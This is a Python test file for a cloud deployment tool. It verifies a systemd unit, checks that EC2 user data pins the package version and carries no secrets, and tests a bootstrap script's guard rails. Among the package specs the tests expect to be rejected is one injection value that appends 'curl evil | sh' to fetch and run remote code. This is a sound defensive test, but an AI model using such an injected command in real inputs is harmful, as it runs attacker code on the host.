"""The files in deploy/: a unit systemd accepts, user data that pins oct and carries no secret, and
an installed package that finds them."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import octctl
from octctl.bootstrap import BootstrapConfig
from octctl.node_settings import Secrets
from octctl.providers.aws.user_data import (
    BOOTSTRAP_PATH,
    USER_DATA_LIMIT,
    deploy_file,
    parse_user_data,
    pinned_spec,
    render_user_data,
)

DEPLOY = Path(__file__).resolve().parents[2] / "deploy"
EXEC = "/opt/oct/bin/oct-ctl"
VERSION = octctl.__version__


def config(**changes: object) -> BootstrapConfig:
    base: dict[str, object] = {
        "cluster": "c-1a2b3c4d",
        "project": "shop",
        "region": "eu-central-1",
        "join": ["10.0.1.5:31888", "10.0.1.6:31888"],
        "cpus": 1900,
        "memory": 3600,
    }
    return BootstrapConfig.model_validate({**base, **changes})


def systemd_verify(unit: Path) -> subprocess.CompletedProcess[str]:
    tool = shutil.which("systemd-analyze")
    if tool is None:
        pytest.fail("systemd-analyze is missing: install the systemd package (apt-get install systemd)")
    return subprocess.run([tool, "verify", str(unit)], capture_output=True, text=True, timeout=60)


def unit_with_stub(tmp_path: Path, text: str) -> Path:
    """The unit with ExecStart pointed at a stub: verify insists the program exists."""
    stub = tmp_path / "oct-ctl"
    stub.write_text("#!/bin/sh\nexit 0\n")
    stub.chmod(0o755)
    assert EXEC in text, "the unit no longer starts /opt/oct/bin/oct-ctl; update this test"
    unit = tmp_path / "oct-ctl.service"
    unit.write_text(text.replace(EXEC, str(stub)))
    return unit


def test_the_unit_passes_systemd_analyze_verify(tmp_path: Path) -> None:
    checked = systemd_verify(unit_with_stub(tmp_path, (DEPLOY / "oct-ctl.service").read_text()))
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout + checked.stderr == "", "systemd-analyze has remarks on the unit"


def test_verify_does_flag_a_broken_unit(tmp_path: Path) -> None:
    """The lint above can fail: a misspelt key is reported."""
    broken = (DEPLOY / "oct-ctl.service").read_text().replace("Restart=always", "Restat=always")
    checked = systemd_verify(unit_with_stub(tmp_path, broken))
    assert "Unknown key 'Restat'" in checked.stderr


def test_the_unit_restarts_the_daemon_and_keeps_docker_reachable() -> None:
    lines = set((DEPLOY / "oct-ctl.service").read_text().splitlines())
    assert f"ExecStart={EXEC} --data-dir /var/lib/oct" in lines
    assert {"Restart=always", "NoNewPrivileges=yes", "ProtectSystem=full", "PrivateTmp=yes"} <= lines
    assert any(line.startswith("LimitNOFILE=") for line in lines)
    # Docker's socket is under /run and the daemon runs as root: nothing may take those away.
    assert not any(
        line.startswith(("User=", "DynamicUser=", "ProtectSystem=strict", "PrivateDevices="))
        for line in lines
    )


def test_user_data_is_cloud_config_that_installs_exactly_this_version() -> None:
    text = render_user_data(config(), VERSION)
    assert text.startswith("#cloud-config\n")
    document = yaml.safe_load(text)
    assert document["runcmd"] == [["bash", "/usr/local/sbin/oct-genesis", f"opencloudtool=={VERSION}"]]
    files = {entry["path"]: entry for entry in document["write_files"]}
    assert files["/etc/systemd/system/oct-ctl.service"]["content"] == deploy_file("oct-ctl.service")
    assert files["/usr/local/sbin/oct-genesis"]["content"] == deploy_file("genesis.sh")
    assert files["/usr/local/sbin/oct-genesis"]["permissions"] == "0755"
    assert BootstrapConfig.model_validate_json(files[BOOTSTRAP_PATH]["content"]) == config()


def test_a_development_wheel_is_allowed_only_when_it_pins_the_same_version() -> None:
    wheel = f"https://example.invalid/dist/opencloudtool-{VERSION}-py3-none-any.whl"
    document = yaml.safe_load(render_user_data(config(), VERSION, package_spec=wheel))
    assert document["runcmd"][0][-1] == wheel
    assert pinned_spec(VERSION, f"/tmp/opencloudtool-{VERSION}-py3-none-any.whl#sha256={'a' * 64}")
    for unpinned in (
        "opencloudtool",
        f"opencloudtool>={VERSION}",
        "opencloudtool==9.9.9",
        "https://example.invalid/opencloudtool-9.9.9-py3-none-any.whl",
        f"opencloudtool=={VERSION}; curl evil | sh",
        f"x /tmp/opencloudtool-{VERSION}-py3-none-any.whl",
    ):
        with pytest.raises(ValueError, match="does not pin oct"):
            render_user_data(config(), VERSION, package_spec=unpinned)


def test_user_data_holds_no_secret_and_cannot_be_made_to() -> None:
    secrets = Secrets.mint()
    text = render_user_data(config(), VERSION)
    assert secrets.token not in text and secrets.raft_password not in text
    for field in Secrets.model_fields:
        assert f'"{field}"' not in text, f"user data has a {field!r} key"
    assert "/oct/c-1a2b3c4d/secrets" in text  # where the node fetches them instead
    with pytest.raises(ValueError, match="token"):
        config(token=secrets.token)  # the config refuses unknown keys, so a secret cannot ride along


@pytest.mark.parametrize(
    "changes",
    [{}, {"join": []}, {"dns_upstreams": ["10.0.0.2:53"], "dns_port": 5353, "api_port": 8443, "dns_ttl": 0}],
)
def test_parse_user_data_gives_back_the_rendered_config(changes: dict[str, object]) -> None:
    assert parse_user_data(render_user_data(config(**changes), VERSION)) == config(**changes)


def test_user_data_fits_ec2s_limit_and_refuses_to_outgrow_it() -> None:
    big_cluster = [f"10.0.{i // 250}.{i % 250 + 2}:31888" for i in range(50)]
    assert len(render_user_data(config(join=big_cluster), VERSION).encode()) < USER_DATA_LIMIT
    with pytest.raises(ValueError, match="EC2 accepts at most 16384"):
        render_user_data(config(join=[f"host-{i}.example.internal:31888" for i in range(1000)]), VERSION)


def test_parse_user_data_says_what_is_wrong() -> None:
    with pytest.raises(ValueError, match="not YAML"):
        parse_user_data("write_files: [unclosed")
    with pytest.raises(ValueError, match=re.escape("writes no /etc/oct/bootstrap.json")):
        parse_user_data("#cloud-config\nruncmd: [[true]]\n")
    broken = render_user_data(config(), VERSION).replace('"cpus": 1900', '"cpus": -1')
    with pytest.raises(ValueError, match=re.escape("bootstrap.json in the user data is invalid: cpus")):
        parse_user_data(broken)


def test_the_installed_package_ships_the_deploy_files(tmp_path: Path) -> None:
    """Read through the installed distribution from a foreign folder, not through the checkout."""
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    script = (
        "import sys\nfrom importlib.resources import files\n"
        "for name in sys.argv[1:]:\n"
        "    sys.stdout.write(files('octctl').joinpath('_deploy', name).read_text() + '\\0')\n"
    )
    names = ["oct-ctl.service", "cloud-init.yaml.j2", "genesis.sh"]
    out = subprocess.run(
        [sys.executable, "-c", script, *names],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env=env,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.split("\0")[:-1] == [(DEPLOY / name).read_text() for name in names]


def run_genesis(*args: str, config_path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", str(DEPLOY / "genesis.sh"), *args],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "OCT_BOOTSTRAP_CONFIG": str(config_path)},
    )


def test_genesis_script_refuses_an_unpinned_version_or_a_missing_config(tmp_path: Path) -> None:
    """Only its guard rails can run here: each stops it before it installs anything."""
    assert subprocess.run(["bash", "-n", str(DEPLOY / "genesis.sh")], timeout=30).returncode == 0
    missing = tmp_path / "bootstrap.json"
    usage = run_genesis(config_path=missing)
    assert usage.returncode == 2 and "usage: genesis.sh PACKAGE_SPEC" in usage.stderr
    unpinned = run_genesis("opencloudtool", config_path=missing)
    assert unpinned.returncode == 2 and "'opencloudtool' is not pinned" in unpinned.stderr
    if os.geteuid() == 0:
        no_config = run_genesis(f"opencloudtool=={VERSION}", config_path=missing)
        assert no_config.returncode == 2 and f"no bootstrap config at {missing}" in no_config.stderr
    else:
        not_root = run_genesis(f"opencloudtool=={VERSION}", config_path=missing)
        assert not_root.returncode == 2 and "run as root" in not_root.stderr
